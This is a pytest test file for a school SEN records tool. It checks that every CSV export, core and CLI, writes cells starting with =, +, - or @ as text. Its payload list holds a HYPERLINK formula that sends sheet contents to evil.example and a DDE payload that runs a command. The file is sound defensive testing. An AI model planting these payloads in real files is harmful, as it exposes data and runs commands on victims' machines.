"""Formula injection in every CSV sendesk writes.

A pupil imported from a MIS file, a provision item typed by a colleague or a user's full name
may begin with = + - or @; opened in Excel or LibreOffice such a cell could run a formula
(fetch a URL with the sheet's contents, or worse). Every exporter, in the core and in the CLI,
must write such cells as text. The school is filled with hostile values, every export is made,
and every cell of every file is read back.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apdr_support import assess, plan, sen_support_pupil
from conftest import SENCO, SENCO_PASSWORD
from records_fixtures import add_pupil
from sendesk.cli.main import main as cli_main
from sendesk.errors import ValidationError
from sendesk.records import apdr, audit_log, census, csv_safe, provision_map, pupil_list
from sendesk.services import users

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,2)", "-2+3",
            "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]


def formula_cells(text: str) -> list[str]:
    """Every cell that a spreadsheet would treat as a formula."""
    text = text.lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_STARTS)]


def defused(text: str) -> int:
    """How many payloads appear, written as text (after an apostrophe)."""
    return sum(text.count("'" + payload.replace('"', '""')) + text.count("'" + payload)
               for payload in PAYLOADS)


@pytest.fixture
def hostile_school(senco_session):
    session = senco_session
    for serial, payload in enumerate(PAYLOADS, start=1):
        # Names are refused at the door (no name starts with =); free-text fields are not.
        with pytest.raises(ValidationError, match="spreadsheet formula"):
            add_pupil(session, serial, legal_surname=payload)
        add_pupil(session, serial, class_name=payload[:30])
    pupil = sen_support_pupil(session)
    apdr.open_pathway(session, pupil, session.clock.today())
    cycle = apdr.current_pathway(session, pupil).current_cycle.id
    day = session.clock.today()
    assess(session, cycle, day)
    plan(session, cycle, day, day + dt.timedelta(weeks=13), items=[
        {"description": payload, "area": "CL", "delivered_by": payload[:60],
         "sessions_per_week": "1", "minutes": "15", "weeks": "10", "rate": "18",
         "group_size": "1"} for payload in PAYLOADS])
    users.add_user(session, "evilname", PAYLOADS[0][:100], "staff", "tundra-marble-crocus-90")
    return session


def test_every_core_export_writes_formulas_as_text(hostile_school, tmp_path):
    session = hostile_school
    stream = io.StringIO()
    pupil_list.export_csv(session, stream)
    census.export_census(session, tmp_path / "census.csv")
    provision_map.export_csv(session, tmp_path / "map.csv")
    files = {"pupil list": stream.getvalue(),
             "census": (tmp_path / "census.csv").read_text("utf-8-sig"),
             "provision map": (tmp_path / "map.csv").read_text("utf-8-sig")}
    for name, text in files.items():
        assert formula_cells(text) == [], name
    for name in ("pupil list", "provision map"):  # the census holds no free-text field
        assert defused(files[name]) > 0, f"{name}: the hostile values did not reach the export"


def _cli(argv, stdin_lines, capsys):
    code = cli_main([str(a) for a in argv],
                    stdin=io.StringIO("".join(line + "\n" for line in stdin_lines)))
    out, err = capsys.readouterr()
    assert code == 0, err
    return out


def test_every_cli_export_writes_formulas_as_text(hostile_school, school, tmp_path, capsys):
    db_path = school[0]   # the file, or the school server's address
    upn = hostile_school.db.scalar("SELECT upn FROM pupils WHERE legal_surname = 'Okafor'")
    hostile_school.close()
    outputs = {
        "pupils list": _cli(["pupils", "list", db_path, "--user", SENCO], [SENCO_PASSWORD], capsys),
        "user list": _cli(["user", "list", db_path, "--user", SENCO], [SENCO_PASSWORD], capsys),
        "audit": _cli(["audit", db_path, "--user", SENCO], [SENCO_PASSWORD], capsys),
    }
    _cli(["census", db_path, "--out", tmp_path / "c.csv", "--user", SENCO], [SENCO_PASSWORD], capsys)
    _cli(["provision-map", db_path, "--out", tmp_path / "p.csv", "--user", SENCO],
         [SENCO_PASSWORD], capsys)
    outputs["census"] = (tmp_path / "c.csv").read_text("utf-8-sig")
    outputs["provision-map"] = (tmp_path / "p.csv").read_text("utf-8-sig")
    _cli(["sar", db_path, "--upn", upn, "--out", tmp_path / "sar", "--user", SENCO],
         [SENCO_PASSWORD], capsys)
    for path in sorted((tmp_path / "sar").rglob("*.csv")):
        outputs[f"sar {path.relative_to(tmp_path / 'sar')}"] = path.read_text("utf-8-sig")
    for name, text in outputs.items():
        assert formula_cells(text) == [], name
    for name in ("pupils list", "user list", "provision-map", "sar records/apdr_provision_items.csv"):
        assert defused(outputs[name]) > 0, name


def test_the_audit_log_export_names_nobody(hostile_school):
    text = "\n".join(",".join(map(str, entry.as_row()))
                     for entry in audit_log.read_log(hostile_school))
    assert "HYPERLINK" not in text and "SUM(" not in text


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_any_cell_is_written_so_that_it_reads_back_as_the_same_text(value):
    out = io.StringIO(newline="")
    csv_safe.write_rows(out, ["value"], [[value]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    (cell,) = rows[1]
    # Only a plain number ("-1.5") may start with "-": a spreadsheet reads it as that number.
    assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)
    assert cell in (value, "'" + value)
